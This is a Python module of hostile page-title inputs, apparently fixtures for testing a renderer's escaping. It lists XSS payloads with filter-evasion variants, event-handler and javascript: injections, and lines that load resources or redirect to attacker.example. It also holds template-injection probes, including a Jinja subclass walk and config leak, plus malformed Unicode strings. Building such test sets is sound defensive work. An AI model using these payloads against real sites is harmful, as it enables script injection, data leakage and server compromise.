"""Titles that want to be more than text: to set `window.hit`, to call out, to bend the page."""

_RUN = "window.hit=1"

SCRIPTS = (
    f"<script>{_RUN}</script>",
    f"</title><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"--><script>{_RUN}</script><!--",
    f"]]><script>{_RUN}</script>",
    f"<ScRiPt >{_RUN}</sCrIpT>",
    f"<script\x0b>{_RUN}</script>",
    f"<scr\x00ipt>{_RUN}</script>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={_RUN}>",
    f'<noscript><p title="</noscript><img src=x onerror={_RUN}>">',
    f"<template><script>{_RUN}</script></template>",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"&#60;script&#62;{_RUN}&#60;/script&#62;",
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    f"＜script＞{_RUN}＜/script＞",
)

HANDLERS = (
    f"<img src=x onerror={_RUN}>",
    f'" onmouseover="{_RUN}" x="',
    f"' onfocus='{_RUN}' autofocus='",
    f'" autofocus onfocus={_RUN} x="',
    f"<svg onload={_RUN}>",
    f"<body onload={_RUN}>",
    f"<details open ontoggle={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<marquee onstart={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f"<a href=javascript:{_RUN}>x</a>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    f"<object data=javascript:{_RUN}>",
    "<style>@import 'http://attacker.example/x.css';</style>",
    "<link rel=stylesheet href=http://attacker.example/x.css>",
    "<img src=http://attacker.example/pixel.png>",
    "<base href=http://attacker.example/>",
    "<meta http-equiv=refresh content='0;url=http://attacker.example/'>",
    "<form action=http://attacker.example/><button>ok</button></form>",
    '" style="background:url(http://attacker.example/p.png)" x="',
)

TEMPLATES = (
    "{{ 7 * 7 }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{{ config }}{{ self._TemplateReference__context }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7 * 7 %>",
    "%(name)s %s {0} {name}",
    "[link](javascript:window.hit=1)",
)

SHAPES = (
    "\u202egnp.elif ruoy esrever\u202c",
    "\u2066\u2067\u2068 isolates never closed",
    "\u200b\u200c\u200d\ufeff\u2060 zero width \u00ad",
    "\x07\x08\x1b[31mred\x1b[0m \x7f\x9b",
    "مرحبا بالعالم " * 4,
    "Zalgo " + "a\u0301\u0302\u0303\u0304" * 40,
    "x" * 10_000,
    "word " * 2_000,
    "\U000e0041\U000e0042 tag characters",
    "line one\nline two\r\nline three\u2028line four",
    "",
    "   ",
)

HOSTILE = SCRIPTS + HANDLERS + TEMPLATES + SHAPES
